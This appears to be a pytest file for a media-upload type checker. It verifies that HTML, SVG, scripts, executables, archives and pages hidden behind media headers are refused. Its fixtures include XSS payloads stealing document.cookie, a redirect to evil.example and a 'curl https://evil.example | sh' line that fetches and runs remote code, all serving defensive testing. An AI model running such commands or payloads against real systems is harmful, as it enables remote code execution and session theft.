"""check_type by content: extension allowlist → no program/page/script/archive → magic bytes → PyAV/Pillow probe."""
from __future__ import annotations

import io
import struct
import zipfile

import pytest

from engines.errors import CorruptMedia, InvalidMedia, UnsupportedMedia
from engines.media import check_type, probe
from engines.media.probe import active_content

PAGES = {
    "page.html": b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
    "page-bom.html": b"\xef\xbb\xbf\n  <HTML><body onload=alert(1)>",
    "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "data.xml": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "comment.html": b"<!-- hi --><script>alert(1)</script>",
    "app.js": b"function f(){ fetch('/gradio_api/upload') }",
    "strict.js": b'"use strict"; window.location = "https://evil.example"',
    "utf16.html": "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"),
    "tool.exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100,
    "tool.elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100,
    "run.sh": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "doc.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
}


def _zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("index.html", "<script>alert(1)</script>")
    return buf.getvalue()


@pytest.mark.parametrize("name", sorted(PAGES))
@pytest.mark.parametrize("pretend", ["movie.mp4", "clip.webm", "song.mp3", "photo.png", "photo.jpg", "voice.wav"])
def test_active_content_named_as_media_is_refused_and_named(tmp_path, name, pretend):
    path = tmp_path / "upload"
    path.write_bytes(PAGES[name])
    with pytest.raises(UnsupportedMedia) as err:
        check_type(path, pretend)
    message = str(err.value)
    assert pretend in message and "never accepted" in message
    assert active_content(PAGES[name]) in message


def test_zip_pretending_to_be_a_video_is_refused(tmp_path):
    path = tmp_path / "upload"
    path.write_bytes(_zip_bytes())
    with pytest.raises(UnsupportedMedia, match="ZIP archive"):
        check_type(path, "holiday.mov")


def test_html_with_mpeg_frame_syncs_is_not_taken_for_an_mp3(tmp_path):
    """A page that contains valid MPEG audio frame headers must not pass the MP3 fallback scan."""
    frame = b"\xff\xfb\x90\x64" + b"\x00" * 413  # MPEG-1 layer III, 128 kbit/s, 44.1 kHz: 417 bytes
    path = tmp_path / "upload"
    path.write_bytes(b"<html><script>alert(1)</script>" + frame * 4)
    with pytest.raises(UnsupportedMedia, match="HTML page"):
        check_type(path, "song.mp3")


def test_page_hidden_behind_an_id3_tag_is_refused(tmp_path):
    tag = b"ID3\x04\x00\x00" + bytes([0, 0, 0, 10]) + b"\x00" * 10
    path = tmp_path / "upload"
    path.write_bytes(tag + b"<html><script>alert(1)</script></html>")
    with pytest.raises(UnsupportedMedia, match="HTML page"):
        check_type(path, "song.mp3")


def test_extensions_outside_the_allowlist_are_refused_even_with_media_content(tmp_path, clip_mp4):
    for name in ("clip.html", "clip.svg", "clip.js", "clip.exe", "clip.mp4.html", "clip"):
        with pytest.raises(UnsupportedMedia, match="not supported"):
            check_type(clip_mp4, name)


def test_each_media_signature_is_recognised(tmp_path, clip_mp4, clip_mkv, cv2_avi, tone_wav, png_file,
                                            rotated_jpeg):
    for path, name, family in [(clip_mp4, "a.mp4", "mp4"), (clip_mp4, "a.mov", "mp4"), (clip_mkv, "a.mkv", "matroska"),
                               (cv2_avi, "a.avi", "avi"), (tone_wav, "a.wav", "wav"), (png_file, "a.png", "png"),
                               (rotated_jpeg, "a.jpg", "jpeg")]:
        assert check_type(path, name) == family
    # an MP4 whose first box size happens to spell a program's magic is still an MP4 by its box type
    mdat_first = tmp_path / "old.mov"
    mdat_first.write_bytes(struct.pack(">I", 0x4D5A0010) + b"mdat" + b"\x00" * 8)
    assert check_type(mdat_first, "old.mov") == "mp4"


def test_right_magic_but_no_decodable_stream_fails_the_probe(tmp_path):
    """Step 4: a file that passes the magic-byte check but does not decode is refused by the probe."""
    fake = tmp_path / "fake.mp4"
    fake.write_bytes(b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"<script>alert(1)</script>" * 40)
    assert check_type(fake, "fake.mp4") == "mp4"
    with pytest.raises(InvalidMedia) as err:
        probe(fake)
    assert isinstance(err.value, (CorruptMedia, UnsupportedMedia)) and "fake.mp4" in str(err.value)
